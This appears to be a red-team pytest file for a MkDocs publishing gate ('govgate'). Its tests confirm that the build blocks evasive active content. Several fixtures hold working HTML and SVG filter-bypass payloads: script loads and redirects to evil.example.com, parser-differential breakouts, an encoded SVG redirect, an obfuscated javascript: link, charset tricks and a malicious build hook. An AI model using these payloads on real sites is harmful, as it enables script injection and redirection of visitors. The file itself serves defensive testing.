"""Red team of issue #11 (inline-mode sites, `govgate build`).

A test marked ``xfail(strict=True)`` is an attack that still works: it fails on the current code and
turns into an error the day the hole is closed (then remove the mark).  Unmarked tests are holes the
red team closed (their docstrings say what was wrong).  History-mode attacks are in
tests/evidence/test_redteam_history.py.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from sitekit import Site, admin_pin, roster_yaml
from test_trust_boundary import approved_site, published

EVIL_HOST = "evil.example.com"


# -- active content: a reviewed page that loads, runs or redirects to another host ----------------------

FIXED_EVASIONS = {
    # browsers use the FIRST of two equal attributes; the scanner kept the last
    "duplicate-attribute": f'<script src="https://{EVIL_HOST}/x.js" src="https://www.mkdocs.org/x.js"></script>',
    # "///host" and "http:host" are absolute to a browser (special-scheme URL parsing), were relative to urlsplit
    "triple-slash": f'<script src="///{EVIL_HOST}/x.js"></script>',
    "scheme-without-slashes": f'<script src="http:{EVIL_HOST}/x.js"></script>',
    # the refresh URL need not be introduced by "url="
    "refresh-without-url=": f'<meta http-equiv="refresh" content="0;https://{EVIL_HOST}/">',
    # HTML inside an attribute: a frame whose document loads a script
    "iframe-srcdoc": f'<iframe srcdoc="&lt;script src=https://{EVIL_HOST}/x.js&gt;&lt;/script&gt;"></iframe>',
    # an SVG script loads through href / xlink:href, not src
    "svg-script-href": f'<svg><script href="https://{EVIL_HOST}/x.js"></script></svg>',
}
# parser differentials: html.parser (Python 3.11) sees text where a browser sees a tag; the HTML5 tree (Lexbor) does not
PARSER_EVASIONS = {
    "svg-style-breakout": f'<svg><style><meta http-equiv="refresh" content="0;url=https://{EVIL_HOST}/"></style></svg>',
    "abrupt-comment": f'<!--><script src="https://{EVIL_HOST}/x.js"></script>-->',
    "noscript-attribute": f'<noscript><p title="</noscript><script src=https://{EVIL_HOST}/x.js></script>"></noscript>',
}


def build_with_body(root: Path, html: str) -> tuple[Site, object]:
    site = approved_site(root)
    site.page("a.md", "# 通知\n\n正文。\n\n" + html + "\n")
    site.approve("a.md")       # reviewers sign the text they see; the gate must still block the active content
    return site, site.gate_build()


@pytest.mark.parametrize("name", list(FIXED_EVASIONS))
def test_active_content_evasion_blocks_the_build(tmp_path: Path, name: str) -> None:
    """Was published (activecontent.py read these unlike a browser); fixed in activecontent.py."""
    site, result = build_with_body(tmp_path / "s", FIXED_EVASIONS[name])
    assert result.returncode != 0 and EVIL_HOST in result.stderr, result.stderr[-400:]
    assert published(site) == []


@pytest.mark.parametrize("name", list(PARSER_EVASIONS))
def test_active_content_parser_evasion_blocks_the_build(tmp_path: Path, name: str) -> None:
    site, result = build_with_body(tmp_path / "s", PARSER_EVASIONS[name])
    page = site.site_dir / "a" / "index.html"
    assert result.returncode != 0, f"published, {EVIL_HOST} in a/index.html: {EVIL_HOST in page.read_text()}"
    assert published(site) == []


def test_xml_stylesheet_in_an_svg_attachment_blocks_the_build(tmp_path: Path) -> None:
    """Was published: ``<?xml-stylesheet href=…?>`` loads a stylesheet when the SVG is opened."""
    site = approved_site(tmp_path / "s")
    site.write("content/img/chart.svg", f'<?xml-stylesheet type="text/css" href="https://{EVIL_HOST}/x.css"?>'
               '<svg xmlns="http://www.w3.org/2000/svg"><text x="0" y="15">统计图</text></svg>')
    site.page("a.md", "# 统计\n\n![统计图](img/chart.svg)\n")
    site.approve("a.md")
    result = site.gate_build()
    assert result.returncode != 0 and EVIL_HOST in result.stderr, result.stderr[-400:]


# -- inline seal: replay of another site's seal -------------------------------------------------------------

def test_seal_of_another_site_by_the_same_admin_is_accepted(tmp_path: Path) -> None:
    import datetime as dt  # noqa: PLC0415

    from sitekit import PEOPLE, TZ  # noqa: PLC0415

    # The defence: an admin who seals several sites binds each pin and each seal to its site (pin "#portal").
    site = approved_site(tmp_path / "portal")
    site.auto_seal = False
    site.extra_env["GOVGATE_TRUST_ROOT"] = admin_pin() + "#portal"
    site.seal(at=dt.datetime(2025, 3, 1, tzinfo=TZ), site="portal")
    site.page("a.md", "# 通知\n\n正文。\n")
    site.sign("a.md", "first", by="editor2")          # editor2 is no section chief on this site …
    site.sign("a.md", "second")
    site.sign("a.md", "final")
    assert site.gate_build().returncode != 0
    # … but is on the department's sub-site, which the same admin sealed later
    other = approved_site(tmp_path / "sub-site")
    other.auto_seal = False
    people = {**PEOPLE, "editor2": ("编辑乙", ["editor", "section_chief"])}
    other.write("signoffs/reviewers.yml", roster_yaml(people))
    other.seal(at=dt.datetime(2025, 4, 1, tzinfo=TZ), site="sub-site")
    for rel in ("signoffs/reviewers.yml", "signoffs/seal.yml"):   # everything else is byte-equal already
        site.write(rel, (other.root / rel).read_bytes())
    result = site.gate_build()
    assert result.returncode != 0, "published on the other site's seal: " + ", ".join(published(site))


# -- files the build reads that no seal and no review covers ---------------------------------------------

def test_blog_authors_file_publishes_unreviewed_text(tmp_path: Path) -> None:
    import datetime as dt  # noqa: PLC0415

    site = Site(tmp_path / "s", on_unapproved="exclude", theme="material", plugins_before=["search", "material/blog"])
    site.write("signoffs/rules/allowed_domains.txt", "mkdocs.org\nsquidfunk.github.io\n")
    site.write("content/blog/.authors.yml", "authors:\n  editor1:\n    name: 编辑甲\n    description: 采编\n"
                                            "    avatar: https://www.mkdocs.org/a.png\n")
    site.page("index.md", "# 首页\n\n欢迎访问。\n")
    site.page("blog/index.md", "# 政务动态\n")
    site.page("blog/posts/approved.md", "# 已审动态\n\n公开的摘要。\n\n<!-- more -->\n\n正文。\n",
              date=dt.date(2025, 1, 8), authors=["editor1"])
    for rel in ("index.md", "blog/index.md", "blog/posts/approved.md"):
        site.approve(rel)
    assert site.gate_build().returncode == 0
    # the editor rewrites the authors file: nobody reviews or seals it
    site.auto_seal = False
    site.write("content/blog/.authors.yml", "authors:\n  editor1:\n    name: 县长已被免职\n    description: ZZQX未审文字\n"
                                            "    avatar: https://www.mkdocs.org/a.png\n")
    result = site.gate_build()
    assert result.returncode != 0 or "ZZQX未审文字" not in site.site_text()


SVG_SCRIPTS = {
    "inline": '<svg xmlns="http://www.w3.org/2000/svg" '
              f'onload="location.href=\'https://{EVIL_HOST}/\'"><script>document.title="x"</script>'
              '<text x="0" y="15">统计图</text></svg>',
    # XML namespaces: <s:script> is an SVG script when s names the SVG namespace (Chromium runs it: --dump-dom)
    "namespace-prefix": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:s="http://www.w3.org/2000/svg">'
                        '<s:script>location.href=atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUuY29tLw==")</s:script>'
                        '<text x="0" y="15">统计图</text></svg>',
    # a tab inside the scheme: the browser drops it, the link runs script on the site's origin when clicked
    "tab-in-javascript-url": '<svg xmlns="http://www.w3.org/2000/svg"><a href="java&#x9;script:alert(document.domain)">'
                             '<text x="0" y="15">统计图</text></a></svg>',
}


@pytest.mark.parametrize("name", list(SVG_SCRIPTS))
def test_svg_attachment_with_inline_script_is_refused(tmp_path: Path, name: str) -> None:
    site = approved_site(tmp_path / "s")
    site.write("content/img/chart.svg", SVG_SCRIPTS[name])
    site.page("a.md", "# 统计\n\n![统计图](img/chart.svg)\n")
    site.approve("a.md")
    result = site.gate_build()
    assert result.returncode != 0, "published: " + (site.site_dir / "img" / "chart.svg").read_text()
    assert published(site) == []


ISO_2022_JP_MARKING = "本文件属机密★1年".encode("iso2022_jp")   # the scanner reads "4yL)!z"; Chromium shows 机密★
ISO_2022_JP_FILES = {
    # a declared charset the scanner ignores
    "html": b'<html><head><meta charset="iso-2022-jp"><title>t</title></head><body><p>' + ISO_2022_JP_MARKING
            + b"</p></body></html>",
    # no charset at all: Chromium's detector picks ISO-2022-JP for unlabelled text (checked with --dump-dom)
    "txt": ISO_2022_JP_MARKING + b"\n",
}


@pytest.mark.parametrize("suffix", list(ISO_2022_JP_FILES))
def test_attachment_in_another_charset_escapes_the_content_rules(tmp_path: Path, suffix: str) -> None:
    site = approved_site(tmp_path / "s")
    site.write(f"content/files/notice.{suffix}", ISO_2022_JP_FILES[suffix])
    site.page("a.md", f"# 通知\n\n[附件](files/notice.{suffix})\n")
    site.approve("a.md")
    result = site.gate_build()
    # refused either way: read as the browser reads it, or refused because a browser would read it otherwise
    assert result.returncode != 0 and ("secret.marking" in result.stderr or "output.encoding" in result.stderr), \
        "published with a secret marking"


# -- the plugin under a plain `mkdocs build` --------------------------------------------------------------

def test_plain_build_through_a_symlinked_path_checks_every_page(tmp_path: Path) -> None:
    """Was: plugin._from_docs_dir compared MkDocs' unresolved paths with the gate's resolved docs_dir; through a
    symlinked path every page counted as a theme file and none was checked (fail open).  Fixed: MkDocs' own
    docs_dir is compared, after proving it is the folder the gate verified."""
    from sitekit import BIN  # noqa: PLC0415

    site = approved_site(tmp_path / "s")
    site.page("draft.md", "# 草稿\n\nZZQX未审文字\n")        # never signed
    (tmp_path / "link").symlink_to(site.root)               # e.g. macOS /tmp → /private/tmp, CI workspaces
    result = site.run(str(BIN / "mkdocs"), "build", "-f", str(tmp_path / "link" / "mkdocs.yml"))
    assert result.returncode != 0 and "draft.md" in result.stderr
    assert "ZZQX" not in site.site_text()


def test_symlinked_folder_in_a_symlinked_site_dir_is_not_published(tmp_path: Path) -> None:
    """Was: site_dir a committed symlink (empty_folder skipped it, MkDocs' clean_directory cannot rmtree a
    symlinked folder inside it, inventory.audit's os.walk never entered symlinked folders).  Fixed: the plugin
    refuses a symlinked site_dir and the audit reports symlinked folders."""
    site = approved_site(tmp_path / "s")
    site.auto_seal = False            # the editor commits these; site/ and pub/ are no configuration
    site.write("stash/notice.html", "<h1>ZZQX未审文字</h1>")
    (site.root / "pub").mkdir()
    (site.root / "pub" / "files").symlink_to("../stash")
    (site.root / "site").symlink_to("pub")
    result = site.gate_build()
    leaked = site.site_dir / "files" / "notice.html"
    assert result.returncode != 0 or not leaked.exists(), "published: site/files/notice.html"


@pytest.mark.xfail(strict=True, reason="red team (documented limit): previews go through MkDocs' own loader, which "
                   "imports hooks: before the plugin can refuse them; the README tells people to use plain mkdocs "
                   "for previews and `mkdocs serve` shows the draft banners, so reviewers run editors' code. Needs a "
                   "`govgate serve` that judges first, like `govgate build`")
def test_preview_runs_an_editors_hook(tmp_path: Path) -> None:
    from sitekit import BIN  # noqa: PLC0415

    site = approved_site(tmp_path / "s")
    marker = tmp_path / "marker"
    site.auto_seal = False
    site.write("evil.py", f"import pathlib\npathlib.Path({str(marker)!r}).write_text('ran')\n")
    site.extra_config = "hooks:\n  - evil.py\n"
    site.write_config()
    site.run(str(BIN / "mkdocs"), "build")           # `mkdocs serve` loads the configuration the same way
    assert not marker.exists(), "the editor's hook ran on the previewing machine"


# -- the CI templates -------------------------------------------------------------------------------------

def test_gitlab_template_cache_dir_is_accepted(tmp_path: Path) -> None:
    """Was (defect, fail closed): the template's GOVGATE_CACHE_DIR inside $CI_PROJECT_DIR was refused, every
    GitLab build exited 2.  Fixed by the lead in 004e419."""
    import re  # noqa: PLC0415
    from importlib import resources  # noqa: PLC0415

    template = (resources.files("mkdocs_govgate") / "templates" / "init" / "gitlab-ci.yml").read_text("utf-8")
    value = re.search(r"GOVGATE_CACHE_DIR:\s*(\S+)", template).group(1)
    site = approved_site(tmp_path / "s")
    site.extra_env["GOVGATE_CACHE_DIR"] = value.replace("$CI_PROJECT_DIR", str(site.root))
    result = site.gate_build()
    assert result.returncode == 0, result.stderr[-400:]
